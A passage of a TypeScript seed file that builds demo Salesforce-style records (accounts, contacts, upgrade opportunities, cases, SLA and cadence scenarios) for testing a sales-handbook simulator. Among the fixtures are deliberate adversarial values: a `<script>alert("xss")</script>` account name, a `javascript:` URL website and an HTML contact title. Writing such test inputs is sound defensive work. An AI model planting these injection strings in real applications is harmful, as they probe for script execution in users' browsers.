/**
 * The demo org: the baseline (metadata and people) plus accounts, contacts, cases,
 * opportunities, tasks and case history that exercise every rule of the handbook:
 * each case trigger, the Day 1/3/5/7 outreach cadence, the 8-business-hour SLA, the
 * two kinds of conflict (open pooled case / AE-owned Ultimate Upgrade opp on the same
 * account), the 15-upgrade-opp cap, and some adversarial data.
 *
 * Every date is computed from `now` (business-hour offsets use the BusinessHours and
 * Holiday records of the baseline), so the scenarios hold whenever the demo runs, and
 * the same `now` always gives the same seed. Ids never depend on `now`.
 */
import { iso, KEY_PREFIX, makeId } from "../seed-types";
import type { OrgSeed, SeedRecord, SObjectName } from "../seed-types";
import {
  AMER_CALENDAR,
  baselineSeed,
  DEMO_USERS,
  EMEA_CALENDAR,
  POOLED_SALES_USER_ID,
  QUEUE_IDS,
  QUEUE_NAMES,
  RECORD_TYPE_IDS,
} from "./baseline";
import type { DemoUserKey } from "./baseline";
import {
  addDays,
  DAY_MS,
  HOUR_MS,
  localDate,
  localToUtc,
  subtractBusinessHours,
} from "./business-hours";
import type { BusinessCalendar } from "./business-hours";
import { truncateToSecond } from "../values";

/** Key prefix of CaseHistory (not in KEY_PREFIX; schema.ts gives it as CaseHistory's keyPrefix). */
export const CASE_HISTORY_PREFIX = "017";

/** Records of the demo seed; CaseHistory rides along with the SObjects of KEY_PREFIX. */
export type DemoRecords = Partial<Record<SObjectName | "CaseHistory", SeedRecord[]>>;

const accountId = (n: number): string => makeId(KEY_PREFIX.Account, n);
const caseId = (n: number): string => makeId(KEY_PREFIX.Case, n);
const oppId = (n: number): string => makeId(KEY_PREFIX.Opportunity, n);

// ---------------------------------------------------------------------------
// Accounts
// ---------------------------------------------------------------------------

/** The accounts the tests and the demo talk about. */
export const DEMO_ACCOUNTS = {
  /** Clean AMER account of DEMO_CASES.contactUsNew: no other open case, no AE-owned upgrade opp. */
  bluebirdBakery: accountId(1),
  /** Conflict (a): one open pooled case In Progress with Avery Chen and a second one New in the queue. */
  conflictOpenCase: accountId(2),
  /** Conflict (b): "Acme Co - Ultimate Upgrade" owned by Marcus Lee, and a New case in the queue. */
  upgradeConflict: accountId(3),
  /** Adversarial: account Name / Website carry HTML, <script> and a javascript: URL. */
  hostileHtml: accountId(15),
  /** A pooled account with no contacts at all (its case has no Contact). */
  noContacts: accountId(17),
  /** Non-pooled (Mid-Market) customers, CARR 25k-80k, owned by Rachel Goldberg. */
  nonPooledMeridian: accountId(47),
  nonPooledStonebridge: accountId(48),
  nonPooledVantage: accountId(49),
} as const;

type AccountKey = string;

interface AccountSpec {
  key: AccountKey;
  n: number;
  name: string;
  type: "Customer" | "Prospect";
  carr: number;
  region: "AMER" | "EMEA" | null;
  country: string;
  website: string;
  /** Owner other than the Pooled Sales User (EMEA AE, non-pooled rep). */
  owner?: DemoUserKey;
  /** [FirstName, LastName, Title]; email and phone are derived. */
  contacts: Array<[string, string, string]>;
}

const XSS_ACCOUNT_NAME = `Widgets & Co <script>alert("xss")</script>`;

const ACCOUNTS: AccountSpec[] = [
  // AMER pooled, owned by the Pooled Sales User. Customers < $4k CARR, prospects < $2k.
  { key: "bluebirdBakery", n: 1, name: "Bluebird Bakery Co", type: "Customer", carr: 2400, region: "AMER", country: "United States", website: "bluebirdbakery.example", contacts: [["Maya", "Torres", "Owner"], ["Dev", "Patel", "Operations Manager"]] },
  { key: "conflictOpenCase", n: 2, name: "Harborview Dental Group", type: "Customer", carr: 3200, region: "AMER", country: "United States", website: "harborviewdental.example", contacts: [["Rosa", "Alvarez", "Practice Manager"], ["Tom", "Becker", "IT Lead"]] },
  { key: "upgradeConflict", n: 3, name: "Acme Co", type: "Customer", carr: 3800, region: "AMER", country: "United States", website: "acme-co.example", contacts: [["Grace", "Kim", "CTO"], ["Luis", "Romero", "DevOps Engineer"], ["Hannah", "Brooks", "Finance Manager"]] },
  { key: "northwind", n: 4, name: "Northwind Traders", type: "Customer", carr: 1900, region: "AMER", country: "United States", website: "northwind-traders.example", contacts: [["Olivia", "Grant", "VP Engineering"]] },
  { key: "copperline", n: 5, name: "Copperline Plumbing Supply", type: "Prospect", carr: 600, region: "AMER", country: "United States", website: "copperline.example", contacts: [["Ethan", "Walsh", "IT Manager"]] },
  { key: "fernhill", n: 6, name: "Fernhill Software", type: "Customer", carr: 450, region: "AMER", country: "Canada", website: "fernhill.example", contacts: [["Nora", "Quinn", "Engineering Manager"]] },
  { key: "lumenPath", n: 7, name: "Lumen Path Learning", type: "Prospect", carr: 1200, region: "AMER", country: "United States", website: "lumenpath.example", contacts: [["Ben", "Carter", "Head of Platform"], ["Aisha", "Rahman", "Developer"]] },
  { key: "granitePeak", n: 8, name: "Granite Peak Outfitters", type: "Customer", carr: 2900, region: "AMER", country: "United States", website: "granitepeak.example", contacts: [["Chris", "Doyle", "IT Director"]] },
  { key: "tidewater", n: 9, name: "Tidewater Logistics", type: "Customer", carr: 3900, region: "AMER", country: "United States", website: "tidewater-logistics.example", contacts: [["Megan", "Foster", "Engineering Lead"], ["Paul", "Nguyen", "Procurement"]] },
  { key: "orchardLane", n: 10, name: "Orchard Lane Analytics", type: "Customer", carr: 3100, region: "AMER", country: "United States", website: "orchardlane.example", contacts: [["Sara", "Whitman", "CTO"]] },
  { key: "pinecrest", n: 11, name: "Pinecrest Veterinary Hospital", type: "Customer", carr: 1500, region: "AMER", country: "United States", website: "pinecrestvet.example", contacts: [["Julia", "Park", "Office Manager"]] },
  { key: "sableFinch", n: 12, name: "Sable & Finch Design", type: "Customer", carr: 2200, region: "AMER", country: "United States", website: "sableandfinch.example", contacts: [["Leo", "Martin", "Founder"]] },
  { key: "nightjar", n: 13, name: "Nightjar Analytics", type: "Prospect", carr: 800, region: "AMER", country: "United States", website: "nightjar.example", contacts: [["Ivy", "Sato", "Data Engineer"]] },
  { key: "quarryStreet", n: 14, name: "Quarry Street Media", type: "Customer", carr: 1100, region: "AMER", country: "United States", website: "quarrystreet.example", contacts: [["Owen", "Price", "Operations"], ["Zoe", "Adams", "Accounts Payable"]] },
  { key: "hostileHtml", n: 15, name: XSS_ACCOUNT_NAME, type: "Customer", carr: 700, region: "AMER", country: "United States", website: "javascript:alert('website')", contacts: [["Mal", "O'Reilly", `Head of <b>QA</b>`]] },
  { key: "mosaicHealth", n: 16, name: "Mosaic Health Partners", type: "Customer", carr: 3400, region: "AMER", country: "United States", website: "mosaichealth.example", contacts: [["Diane", "Holt", "IT Manager"]] },
  { key: "noContacts", n: 17, name: "Driftwood Labs", type: "Prospect", carr: 1000, region: "AMER", country: "United States", website: "driftwoodlabs.example", contacts: [] },
  { key: "cobaltRidge", n: 18, name: "Cobalt Ridge Consulting", type: "Customer", carr: 2600, region: "AMER", country: "United States", website: "cobaltridge.example", contacts: [["Kevin", "Shaw", "Principal"]] },
  { key: "blueHeron", n: 19, name: "Blue Heron Realty", type: "Customer", carr: 1800, region: "AMER", country: "United States", website: "blueheronrealty.example", contacts: [["Laura", "Mills", "Broker / Owner"]] },
  { key: "saltmarsh", n: 20, name: "Saltmarsh Brewing Co", type: "Customer", carr: 3500, region: "AMER", country: "United States", website: "saltmarshbrewing.example", contacts: [["Jake", "Rollins", "Head Brewer & IT"], ["Emma", "Fitz", "Operations"]] },
  { key: "kestrel", n: 21, name: "Kestrel Robotics", type: "Customer", carr: 3700, region: "AMER", country: "United States", website: "kestrelrobotics.example", contacts: [["Arjun", "Mehta", "Engineering Director"]] },
  { key: "evergreen", n: 22, name: "Evergreen Family Clinic", type: "Customer", carr: 2000, region: "AMER", country: "United States", website: "evergreenclinic.example", contacts: [["Beth", "Carson", "Practice Administrator"]] },
  { key: "lanternfish", n: 23, name: "Lanternfish Games", type: "Customer", carr: 2500, region: "AMER", country: "United States", website: "lanternfish.example", contacts: [["Tyler", "Voss", "Lead Developer"]] },
  { key: "mapleMain", n: 24, name: "Maple & Main Hardware", type: "Customer", carr: 1300, region: "AMER", country: "United States", website: "mapleandmain.example", contacts: [["Gary", "Winslow", "Owner"]] },
  { key: "silverline", n: 25, name: "Silverline Events", type: "Prospect", carr: 1500, region: "AMER", country: "United States", website: "silverline-events.example", contacts: [["Nina", "Reyes", "Marketing Ops"]] },
  // Quiet AMER accounts where an AE owns an Ultimate Upgrade opp (no open cases).
  { key: "redwood", n: 26, name: "Redwood Signal Systems", type: "Customer", carr: 3300, region: "AMER", country: "United States", website: "redwoodsignal.example", contacts: [["Amy", "Lowell", "CTO"]] },
  { key: "clearwater", n: 27, name: "Clearwater Pediatrics", type: "Customer", carr: 2100, region: "AMER", country: "United States", website: "clearwaterpeds.example", contacts: [["Mark", "Easton", "IT Coordinator"]] },
  { key: "ironbark", n: 28, name: "Ironbark Construction", type: "Customer", carr: 2800, region: "AMER", country: "United States", website: "ironbark.example", contacts: [["Rick", "Salazar", "Project Systems Lead"]] },
  { key: "brightMeadow", n: 29, name: "Bright Meadow Farms", type: "Customer", carr: 1700, region: "AMER", country: "United States", website: "brightmeadow.example", contacts: [["Carla", "Jennings", "Office Manager"]] },
  { key: "summitPeak", n: 30, name: "Summit Peak Fitness", type: "Customer", carr: 2300, region: "AMER", country: "United States", website: "summitpeakfit.example", contacts: [["Derek", "Moss", "Head of Digital"]] },
  { key: "halcyon", n: 31, name: "Halcyon Legal LLP", type: "Customer", carr: 3600, region: "AMER", country: "United States", website: "halcyonlegal.example", contacts: [["Monica", "Reed", "Director of IT"]] },
  { key: "foxglove", n: 32, name: "Foxglove Florals", type: "Customer", carr: 900, region: "AMER", country: "United States", website: "foxglove.example", contacts: [["Penny", "Hart", "Owner"]] },
  { key: "cinderCone", n: 33, name: "Cinder Cone Studios", type: "Customer", carr: 3000, region: "AMER", country: "United States", website: "cindercone.example", contacts: [["Felix", "Ward", "Technical Director"]] },
  { key: "juniperDental", n: 34, name: "Juniper Street Dental", type: "Customer", carr: 2700, region: "AMER", country: "United States", website: "juniperdental.example", contacts: [["Alicia", "Bloom", "Practice Manager"]] },
  { key: "wavecrest", n: 35, name: "Wavecrest Marine Supply", type: "Customer", carr: 3900, region: "AMER", country: "United States", website: "wavecrest.example", contacts: [["Victor", "Lane", "Systems Admin"]] },
  { key: "prairieWind", n: 36, name: "Prairie Wind Energy", type: "Customer", carr: 3400, region: "AMER", country: "United States", website: "prairiewind.example", contacts: [["Shannon", "Cole", "Engineering Manager"]] },
  { key: "starling", n: 37, name: "Starling Data Co", type: "Customer", carr: 1600, region: "AMER", country: "United States", website: "starlingdata.example", contacts: [["Omar", "Haddad", "Data Platform Lead"]] },
  { key: "oakmont", n: 38, name: "Oakmont Tutoring", type: "Customer", carr: 1400, region: "AMER", country: "United States", website: "oakmonttutoring.example", contacts: [["Grace", "Oduya", "Director"]] },
  { key: "riverbend", n: 39, name: "Riverbend Credit Union", type: "Customer", carr: 3800, region: "AMER", country: "United States", website: "riverbendcu.example", contacts: [["Patrick", "Doyle", "IT Security Officer"]] },
  { key: "tallgrass", n: 40, name: "Tallgrass Media", type: "Customer", carr: 1900, region: "AMER", country: "United States", website: "tallgrassmedia.example", contacts: [["Lena", "Brandt", "Web Lead"]] },
  // EMEA pooled, owned by the region's pooled AE (newer handbook).
  { key: "brightwater", n: 41, name: "Brightwater Analytics Ltd", type: "Customer", carr: 2800, region: "EMEA", country: "Ireland", website: "brightwater.example", owner: "siobhanMurphy", contacts: [["Aoife", "Byrne", "Head of Engineering"], ["Cian", "Walsh", "DevOps Engineer"]] },
  { key: "thistleOak", n: 42, name: "Thistle & Oak Ltd", type: "Customer", carr: 1600, region: "EMEA", country: "United Kingdom", website: "thistleandoak.example", owner: "siobhanMurphy", contacts: [["Fiona", "MacLeod", "Operations Director"]] },
  { key: "bergmann", n: 43, name: "Bergmann Messtechnik GmbH", type: "Customer", carr: 3300, region: "EMEA", country: "Germany", website: "bergmann-messtechnik.example", owner: "lukasBecker", contacts: [["Jonas", "Hoffmann", "IT-Leiter"], ["Katrin", "Vogel", "Einkauf"]] },
  { key: "alpenblick", n: 44, name: "Alpenblick Reisen GmbH", type: "Prospect", carr: 900, region: "EMEA", country: "Austria", website: "alpenblick-reisen.example", owner: "lukasBecker", contacts: [["Stefan", "Gruber", "Geschäftsführer"]] },
  { key: "norrsken", n: 45, name: "Norrsken Data AB", type: "Customer", carr: 2100, region: "EMEA", country: "Sweden", website: "norrsken.example", owner: "elinJohansson", contacts: [["Oskar", "Lind", "CTO"]] },
  { key: "havbris", n: 46, name: "Havbris ApS", type: "Prospect", carr: 1400, region: "EMEA", country: "Denmark", website: "havbris.example", owner: "elinJohansson", contacts: [["Mette", "Nielsen", "Developer"]] },
  // Non-pooled (Mid-Market) customers.
  { key: "nonPooledMeridian", n: 47, name: "Meridian Freight Systems", type: "Customer", carr: 62000, region: null, country: "United States", website: "meridianfreight.example", owner: "rachelGoldberg", contacts: [["Carl", "Jensen", "VP IT"]] },
  { key: "nonPooledStonebridge", n: 48, name: "Stonebridge Financial Partners", type: "Customer", carr: 38500, region: null, country: "United States", website: "stonebridgefp.example", owner: "rachelGoldberg", contacts: [["Helen", "Ward", "CIO"], ["Marcus", "Bell", "Head of DevOps"]] },
  { key: "nonPooledVantage", n: 49, name: "Vantage Biotech Inc", type: "Customer", carr: 79500, region: null, country: "United States", website: "vantagebiotech.example", owner: "rachelGoldberg", contacts: [["Raj", "Iyer", "Director of Engineering"]] },
];

const ACCOUNT_BY_KEY = new Map(ACCOUNTS.map((a) => [a.key, a]));
function account(key: AccountKey): AccountSpec {
  const a = ACCOUNT_BY_KEY.get(key);
  if (!a) throw new Error(`demo seed: unknown account ${key}`);
  return a;
}

/** Contact ids, allocated in account order (static, independent of `now`). */
const CONTACT_IDS = new Map<AccountKey, string[]>();
{
  let n = 0;
  for (const a of ACCOUNTS) CONTACT_IDS.set(a.key, a.contacts.map(() => makeId(KEY_PREFIX.Contact, ++n)));
}
function contactOf(key: AccountKey, index = 0): string {
  const id = CONTACT_IDS.get(key)?.[index];
  if (!id) throw new Error(`demo seed: account ${key} has no contact #${index}`);
  return id;
}

/** Contacts the tests and the demo talk about. */
export const DEMO_CONTACTS = {
  /** Maya Torres, Bluebird Bakery: the customer on DEMO_CASES.contactUsNew. */
  contactUsCustomer: contactOf("bluebirdBakery"),
  /** Rosa Alvarez, Harborview Dental: contact on both conflict (a) cases. */
  conflictCustomer: contactOf("conflictOpenCase"),
  /** Grace Kim, Acme Co: contact on the upgrade-conflict case. */
  upgradeConflictCustomer: contactOf("upgradeConflict"),
} as const;

// ---------------------------------------------------------------------------
// Opportunities
// ---------------------------------------------------------------------------

/** The AMER AE at the cap of 15 active Ultimate Upgrade opportunities. */
export const UPGRADE_CAP_AE: DemoUserKey = "jordanRivera";
export const UPGRADE_OPP_CAP = 15;

/** Accounts of Jordan Rivera's 15 open Ultimate Upgrade opps (ids 101..115). */
const JORDAN_UPGRADE_ACCOUNTS = [
  "saltmarsh", "redwood", "clearwater", "ironbark", "brightMeadow", "summitPeak", "halcyon", "foxglove",
  "cinderCone", "juniperDental", "wavecrest", "prairieWind", "starling", "riverbend", "tallgrass",
] as const;

export const DEMO_OPPORTUNITIES = {
  /** "Acme Co - Ultimate Upgrade", open, owned by Marcus Lee: makes DEMO_CASES.upgradeConflictCase a conflict. */
  upgradeConflictOpp: oppId(1),
  /** Marcus Lee's other open Ultimate Upgrade opps (Kestrel Robotics, Oakmont Tutoring). */
  marcusKestrelUpgrade: oppId(2),
  marcusOakmontUpgrade: oppId(3),
  /** Jordan Rivera's closed Ultimate Upgrade opps (won / lost): do not count toward the cap. */
  jordanClosedWonUpgrade: oppId(4),
  jordanClosedLostUpgrade: oppId(5),
  /** Pooled (Pooled Sales User) add-on opp, the related opp of DEMO_CASES.expansionNew. */
  tidewaterAddOn: oppId(10),
  /** Pooled renewal opp, the related opp of DEMO_CASES.urgentRenewalNew. */
  pinecrestRenewal: oppId(11),
  /** Pooled renewal opp, the related opp of DEMO_CASES.cadencePastSevenDays. */
  evergreenRenewal: oppId(12),
  /** Pooled add-on opp, Closed Won, the related opp of the closed DEMO_CASES.closedResolved. */
  lanternfishAddOnWon: oppId(13),
  /** Non-pooled rep's "Ultimate Upgrade" opp: not a pooled AE, must not count anywhere. */
  nonPooledUpgrade: oppId(30),
} as const;

/** Jordan Rivera's 15 open Ultimate Upgrade opportunity ids. */
export const CAP_AE_OPEN_UPGRADE_OPP_IDS: readonly string[] = JORDAN_UPGRADE_ACCOUNTS.map((_, i) => oppId(101 + i));

// ---------------------------------------------------------------------------
// Cases
// ---------------------------------------------------------------------------

export const DEMO_CASES = {
  /** Contact Us Form Response, New, High, AMER queue, 1.5 business hours old (within SLA), clean account. */
  contactUsNew: caseId(1),
  /** NPS/CSAT Survey Response - Score 3, New, High, 6.5 business hours old: SLA at risk. */
  npsNew: caseId(2),
  /** PQL Hand Raise, New, Medium, 3 business hours old. */
  pqlNew: caseId(3),
  /** Post Churn Survey Response, New, Low, 20 business hours old: SLA breached. */
  postChurnNew: caseId(4),
  /** Fast Moving Buyer Alert, New, Low, created 65 minutes ago (the youngest case). */
  fastMovingBuyerNew: caseId(5),
  /** Referral (SMB Pool Internal Created by the support engineer), New, 12 business hours: breached. */
  internalReferral: caseId(6),
  /** Expansion Opportunity: Seat overage 112%, New, High, 24 business hours: oldest High, breached; related opp set. */
  expansionNew: caseId(7),
  /** Churn & Contraction Mitigation, New, Medium, 4 business hours. */
  churnNew: caseId(8),
  /** Urgent Renewal & TRX Support, New, High, 2 business hours; related pooled renewal opp. */
  urgentRenewalNew: caseId(9),
  /** Inbound Request (Email), New, Medium, 5 business hours. */
  inboundRequestNew: caseId(10),
  /** Unclassified subject ("Question about my invoice"), New, Low, 9 business hours: just breached. */
  unclassified: caseId(11),
  /** Contact Us case created out of hours (22:00 New York time). */
  outOfHoursNew: caseId(12),
  /** Conflict (a), first half: In Progress, owned by Avery Chen, claimed yesterday. */
  conflictFirstCase: caseId(13),
  /** Conflict (a), second half: New in the queue on the same account: transfer to Avery Chen. */
  conflictSecondCase: caseId(14),
  /** Conflict (b): New in the queue on Acme Co, whose active Ultimate Upgrade opp Marcus Lee owns. */
  upgradeConflictCase: caseId(15),
  /** Adversarial: Description and Notes__c at the 32,000-character Long Text limit (>100 KB of UTF-8 together). */
  hugeDescription: caseId(16),
  /** Adversarial: HTML, <script> and javascript: in Subject, Description, Web_Form_Details__c, Notes__c. */
  hostileHtml: caseId(17),
  /** Adversarial: no Contact (its account has none). */
  noContact: caseId(18),
  /** Adversarial: no Account and no Contact (web form e-mail matched nothing). */
  noAccount: caseId(19),
  /** Cadence: claimed today by Avery Chen, Day 1 email done: on track. */
  cadenceDay1: caseId(20),
  /** Cadence: claimed 2 days ago by Priya Shah, Day 1 email done, Day 3 call due today. Also: picked up within SLA. */
  cadenceDay3: caseId(21),
  /** Cadence: claimed 4 days ago by Jordan Rivera, Day 1 email done, Day 3 call overdue. Also: picked up after the SLA was breached. */
  cadenceDay3Overdue: caseId(22),
  /** Cadence: claimed 6 days ago by Marcus Lee, all four touches (Day 1/3/5/7) done. */
  cadenceComplete: caseId(23),
  /** Cadence: claimed 8 days ago by Sam Okafor, Day 1/3/5 done, Day 7 missed, still not resolved. */
  cadencePastSevenDays: caseId(24),
  /** Closed - Resolved (Upgrade Completed), related opp Closed Won. */
  closedResolved: caseId(25),
  /** Closed - Customer Unresponsive after the full cadence. */
  closedUnresponsive: caseId(26),
  /** Closed - Duplicate (No Action Required). */
  closedDuplicate: caseId(27),
  /** Support Case record type (not pooled), In Progress with the support engineer, on a pooled account. */
  supportCase: caseId(28),
  /** EMEA: Contact Us, New, High, in the EMEA queue, 2 business hours. */
  emeaContactUsNew: caseId(29),
  /** EMEA: In Progress with Siobhan Murphy, claimed yesterday. */
  emeaInProgress: caseId(30),
  /** EMEA: Urgent Renewal & TRX Support, New, High, 5 business hours. */
  emeaUrgentRenewalNew: caseId(31),
  /** EMEA: Inbound Request by Phone, New, Low, 1.5 business hours. */
  emeaInboundPhoneNew: caseId(32),
  /** EMEA: Fast Moving Buyer Alert, New, Medium, 14 business hours: breached. */
  emeaFastMovingBuyerNew: caseId(33),
} as const;

export type DemoCaseKey = keyof typeof DEMO_CASES;

/** SLA scenarios (8 business hours from entering the queue to pick-up). */
export const DEMO_SLA = {
  /** New cases and their age in business hours at `now` (AMER calendar unless emea). */
  newCaseBusinessHours: {
    contactUsNew: 1.5,
    npsNew: 6.5,
    pqlNew: 3,
    postChurnNew: 20,
    internalReferral: 12,
    expansionNew: 24,
    churnNew: 4,
    urgentRenewalNew: 2,
    inboundRequestNew: 5,
    unclassified: 9,
    conflictSecondCase: 2.5,
    upgradeConflictCase: 1,
    hugeDescription: 10,
    hostileHtml: 3.5,
    noContact: 6,
    noAccount: 2,
    emeaContactUsNew: 2,
    emeaUrgentRenewalNew: 5,
    emeaInboundPhoneNew: 1.5,
    emeaFastMovingBuyerNew: 14,
  } satisfies Partial<Record<DemoCaseKey, number>>,
  /** The New case at risk (6.5 of 8 business hours used). */
  atRisk: DEMO_CASES.npsNew,
  /** Picked up 1.25 business hours after creation. */
  pickedUpWithinSla: DEMO_CASES.cadenceDay3,
  /** Picked up 10 business hours after creation (SLA breached before pick-up). */
  pickedUpAfterSla: DEMO_CASES.cadenceDay3Overdue,
  /** Created at 22:00 New York time. */
  outOfHours: DEMO_CASES.outOfHoursNew,
} as const;

/** Cadence scenarios: the day (days ago, in the AE's time zone) the case was claimed, and the touches done. */
export const DEMO_CADENCE: ReadonlyArray<{ caseId: string; ae: DemoUserKey; claimedDaysAgo: number; doneDays: readonly number[] }> = [
  { caseId: DEMO_CASES.cadenceDay1, ae: "averyChen", claimedDaysAgo: 0, doneDays: [1] },
  { caseId: DEMO_CASES.cadenceDay3, ae: "priyaShah", claimedDaysAgo: 2, doneDays: [1] },
  { caseId: DEMO_CASES.cadenceDay3Overdue, ae: "jordanRivera", claimedDaysAgo: 4, doneDays: [1] },
  { caseId: DEMO_CASES.cadenceComplete, ae: "marcusLee", claimedDaysAgo: 6, doneDays: [1, 3, 5, 7] },
  { caseId: DEMO_CASES.cadencePastSevenDays, ae: "samOkafor", claimedDaysAgo: 8, doneDays: [1, 3, 5] },
  { caseId: DEMO_CASES.conflictFirstCase, ae: "averyChen", claimedDaysAgo: 1, doneDays: [1] },
  { caseId: DEMO_CASES.emeaInProgress, ae: "siobhanMurphy", claimedDaysAgo: 1, doneDays: [1] },
];

// ---------------------------------------------------------------------------
// Text
// ---------------------------------------------------------------------------

function webForm(p: { first: string; last: string; email: string; company: string; country: string; phone: string; users: string; message: string }): string {
  return [
    `First Name: ${p.first}`,
    `Last Name: ${p.last}`,
    `Business Email: ${p.email}`,
    `Company Name: ${p.company}`,
    `Phone Number: ${p.phone}`,
    `Country: ${p.country}`,
    `Number of Users: ${p.users}`,
    `How can we help?: ${p.message}`,
  ].join("\n");
}

/**
 * Long Text Area limit of the org (Case.Description, Notes__c, Web_Form_Details__c are
 * 32,000 characters in Salesforce and in the simulator's schema), so the "huge" case fills
 * Description (English thread) and Notes__c (the Japanese original, 3 bytes a character in
 * UTF-8) to exactly that limit: 64,000 characters, well over 100 KB of UTF-8.
 */
export const LONG_TEXT_MAX = 32_000;

/** A long forwarded e-mail thread, deterministic, exactly `length` characters. */
function hugeThread(length: number, from: string): string {
  const parts: string[] = ["Hi team, forwarding the whole thread below so you have the context on our seat true-up. Sorry it's long!\n"];
  let size = parts[0]?.length ?? 0;
  for (let i = 1; size < length; i++) {
    const block = [
      "-----Original Message-----",
      `From: ${from}`,
      `Sent: message ${i} of the thread`,
      `Subject: RE: RE: Seat true-up and renewal questions (#${i})`,
      "",
      `Point ${i}: we added ${(i % 9) + 1} users to the clinical-apps group this month and the license page shows ` +
        `${100 + (i % 40)}% seat usage. Can you confirm whether the true-up is billed pro rata, and whether we can ` +
        `move the renewal date to align with our fiscal year? Our finance team also asked about invoicing in two ` +
        `installments and whether the price per seat changes if we add another ${(i % 5) + 5} seats before renewal.`,
      "Mit freundlichen Grüßen / よろしくお願いいたします / Cordialement — Ωμέγα Κλινικές 🙏✅",
      "",
    ].join("\n");
    parts.push(block);
    size += block.length + 1;
  }
  // Cut on a code point boundary (an emoji is two UTF-16 units), then pad to the exact length.
  let text = parts.join("\n").slice(0, length);
  if (/[\uD800-\uDBFF]$/.test(text)) text = text.slice(0, -1);
  return text.padEnd(length, ".");
}

/** The same thread as forwarded by the customer's Tokyo office: mostly 3-byte UTF-8, exactly `length` characters. */
function hugeJapaneseThread(length: number): string {
  const parts: string[] = ["東京オフィスから転送されたスレッド（原文）:\n"];
  let size = parts[0]?.length ?? 0;
  for (let i = 1; size < length; i++) {
    const block =
      `――― 転送メッセージ ${i} ―――\n` +
      `件名：シート数の追加と更新日について（${i}）\n` +
      `いつもお世話になっております。今月、臨床アプリチームに${(i % 9) + 1}名のユーザーを追加しました。` +
      `ライセンス画面ではシート使用率が${100 + (i % 40)}％と表示されています。日割りでの請求になるのか、` +
      `また更新日を弊社の会計年度に合わせて変更できるのか、ご確認いただけますでしょうか。` +
      `経理部からは二回分割での請求書発行についても問い合わせがありました。よろしくお願いいたします。\n`;
    parts.push(block);
    size += block.length;
  }
  return parts.join("").slice(0, length).padEnd(length, "。");
}

// ---------------------------------------------------------------------------
// The seed
// ---------------------------------------------------------------------------

const user = (key: DemoUserKey) => DEMO_USERS[key];

export function demoSeed(now: Date): OrgSeed {
  const base = baselineSeed(now);
  const t = truncateToSecond(now.getTime());

  /**
   * The instant the wall clock in `tz` shows `date` at `minutes` after midnight; if that
   * is not at least a minute before now (it is today and still to come), a moment earlier
   * today instead: `fraction` of the way through the last (up to) 3 hours of today, so it
   * stays on the same local day and later fractions stay later.
   */
  const atLocal = (date: string, minutes: number, tz: string, fraction: number): number => {
    const at = localToUtc(date, minutes, tz);
    if (at <= t - 60_000) return at;
    const dayStart = localToUtc(date, 0, tz);
    const span = Math.min(t - dayStart, 3 * HOUR_MS);
    return truncateToSecond(t - span * (1 - fraction));
  };
  const daysAgoLocal = (days: number, tz: string): string => addDays(localDate(t, tz), -days);
  const bhAgo = (hours: number, cal: BusinessCalendar = AMER_CALENDAR): number => subtractBusinessHours(t, hours, cal);

  const Account: SeedRecord[] = [];
  const Contact: SeedRecord[] = [];
  const Opportunity: SeedRecord[] = [];
  const Case: SeedRecord[] = [];
  const Task: SeedRecord[] = [];
  const CaseHistory: SeedRecord[] = [];

  // ---- accounts and contacts ----------------------------------------------
  for (const a of ACCOUNTS) {
    const ownerId = a.owner ? user(a.owner).userId : POOLED_SALES_USER_ID;
    const created = t - (120 + a.n * 17) * DAY_MS;
    Account.push({
      Id: accountId(a.n),
      Name: a.name,
      OwnerId: ownerId,
      Type: a.type,
      CARR__c: a.carr,
      Pooled_Region__c: a.region,
      Website: a.website.startsWith("javascript:") ? a.website : `https://www.${a.website}`,
      BillingCountry: a.country,
      CreatedDate: iso(created),
      CreatedById: ownerId,
    });
    const domain = a.website.startsWith("javascript:") ? "widgets-and-co.example" : a.website;
    a.contacts.forEach(([first, last, title], i) => {
      const phone =
        a.country === "United States" || a.country === "Canada"
          ? `+1 (415) 555-01${String((a.n * 2 + i) % 100).padStart(2, "0")}`
          : `+${{ Ireland: "353 1", "United Kingdom": "44 20", Germany: "49 30", Austria: "43 1", Sweden: "46 8", Denmark: "45 33" }[a.country] ?? "00"} 555 ${String(100 + a.n)}${i}`;
      Contact.push({
        Id: contactOf(a.key, i),
        FirstName: first,
        LastName: last,
        Email: `${first}.${last}`.toLowerCase().replace(/[^a-z.]/g, "") + `@${domain}`,
        Phone: phone,
        Title: title,
        AccountId: accountId(a.n),
        OwnerId: ownerId,
        CreatedDate: iso(created + (i + 1) * DAY_MS),
        CreatedById: ownerId,
      });
    });
  }

  // ---- opportunities --------------------------------------------------------
  const dateIn = (days: number): string => localDate(t + days * DAY_MS, "America/New_York");
  const opp = (
    id: string,
    key: AccountKey,
    ownerId: string,
    p: { suffix: string; stage: string; amount: number; closeIn: number; createdAgo: number; nextStep?: string | null; type: string },
  ): void => {
    Opportunity.push({
      Id: id,
      Name: `${account(key).name} - ${p.suffix}`,
      AccountId: accountId(account(key).n),
      OwnerId: ownerId,
      StageName: p.stage,
      CloseDate: dateIn(p.closeIn),
      Amount: p.amount,
      NextStep: p.nextStep ?? null,
      Type: p.type,
      CreatedDate: iso(t - p.createdAgo * DAY_MS),
      CreatedById: ownerId,
    });
  };
  const OPEN_STAGES = ["0-Pending Acceptance", "1-Discovery", "3-Technical Evaluation", "5-Negotiating"] as const;
  const upgrade = (id: string, key: AccountKey, ae: DemoUserKey, i: number, extra: Partial<{ stage: string; closeIn: number; createdAgo: number; step: string }> = {}): void =>
    opp(id, key, user(ae).userId, {
      suffix: "Ultimate Upgrade",
      stage: extra.stage ?? OPEN_STAGES[i % OPEN_STAGES.length] ?? "1-Discovery",
      amount: 4800 + ((i * 1370) % 9000),
      closeIn: extra.closeIn ?? 10 + ((i * 7) % 50),
      createdAgo: extra.createdAgo ?? 12 + ((i * 5) % 60),
      nextStep: `Ultimate Upgrade: ${extra.step ?? ["demo Ultimate security features", "send Ultimate quote", "trial check-in", "confirm seat count for Ultimate"][i % 4]}`,
      type: "Upgrade",
    });

  JORDAN_UPGRADE_ACCOUNTS.forEach((key, i) => upgrade(oppId(101 + i), key, "jordanRivera", i));
  upgrade(DEMO_OPPORTUNITIES.upgradeConflictOpp, "upgradeConflict", "marcusLee", 2, { stage: "3-Technical Evaluation", createdAgo: 9, step: "Ultimate trial review call with Grace" });
  upgrade(DEMO_OPPORTUNITIES.marcusKestrelUpgrade, "kestrel", "marcusLee", 1, { stage: "1-Discovery", createdAgo: 3 });
